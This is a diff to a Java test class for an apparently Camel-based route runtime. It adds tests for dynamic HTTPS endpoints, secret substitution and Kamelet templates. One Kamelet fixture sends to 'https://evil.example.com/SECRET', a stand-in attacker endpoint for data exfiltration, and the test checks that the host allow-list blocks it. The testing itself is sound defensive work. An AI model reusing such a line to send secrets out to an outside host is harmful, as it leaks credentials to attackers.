@@ -170,15 +170,17 @@ class HttpsTest {
                 - toD: "https://%s/items/${header.item}"
                 - setHeader: { name: CamelHttpMethod, constant: DELETE }
                 - toD: "https://%s/items/${header.item}"
+                - toD: "https://%s/found%%2Fhere?item=${header.item}&a=%%2B&httpMethod=POST"
                 - to: { uri: "https://%s/last", parameters: { httpMethod: PATCH, responseTimeout: 5000 } }
                 """
-                        .formatted(server.host(), server.host(), server.host()));
+                        .formatted(server.host(), server.host(), server.host(), server.host()));
         assertThat(send("x", Map.of("item", "7")).getException()).isNull();
         assertThat(server.requests())
                 .extracting(LocalHttps.Request::method, LocalHttps.Request::target)
                 .containsExactly(
                         tuple("PUT", "/items/7"),
                         tuple("DELETE", "/items/7"),
+                        tuple("POST", "/found%2Fhere?item=7&a=%2B"),
                         tuple("PATCH", "/last"));
     }
 
@@ -425,6 +427,41 @@ class HttpsTest {
     }
 
     @Test
+    void aKameletIsHeldToTheSame() throws Exception {
+        Files.writeString(
+                directory.resolve("tell.kamelet.yaml"),
+                """
+                apiVersion: camel.apache.org/v1
+                kind: Kamelet
+                metadata: { name: tell }
+                spec:
+                  definition: { title: Tell, type: object, properties: { item: { type: string } } }
+                  template:
+                    from:
+                      uri: kamelet:source
+                      steps:
+                        - to: https://evil.example.com/SECRET
+                """);
+        route("- to: kamelet:tell?item=7");
+        assertThat(problems())
+                .singleElement()
+                .asString()
+                .contains("tell.kamelet.yaml:10: host evil.example.com is not allowed");
+        secrets.put("teams/token", "0123456789");
+        Files.writeString(
+                directory.resolve("tell.kamelet.yaml"),
+                Files.readString(directory.resolve("tell.kamelet.yaml"))
+                        .replace(
+                                "https://evil.example.com/SECRET",
+                                "\"https://%s/{{item}}?t={{secret:teams/token}}\""
+                                        .formatted(server.host())));
+        assertThat(send("x", Map.of()).getException()).isNull();
+        assertThat(server.requests())
+                .extracting(LocalHttps.Request::target)
+                .containsExactly("/7?t=0123456789");
+    }
+
+    @Test
     void aMissingSecretEndsTheStart() throws Exception {
         route("- to: \"{{secret:none/url}}\"");
         assertThatThrownBy(this::runtime)
@@ -464,12 +501,13 @@ class HttpsTest {
                 - setHeader: { name: Authorization, constant: "Bearer {{secret:teams/token}}" }
                 - to: { uri: "{{secret:teams/url}}", parameters: { httpMethod: PUT } }
                 - to: https://%s/{{secret:teams/path}}
+                - toD: "{{secret:teams/url}}"
                 """
                         .formatted(server.host()));
         assertThat(send("x", Map.of()).getException()).isNull();
         assertThat(server.requests())
                 .extracting(LocalHttps.Request::target)
-                .containsExactly(SECRET + "?sig=a%2Bb", "/some/path");
+                .containsExactly(SECRET + "?sig=a%2Bb", "/some/path", SECRET + "?sig=a%2Bb");
         assertThat(server.requests().getFirst().method()).isEqualTo("PUT");
         assertThat(server.requests())
                 .allSatisfy(
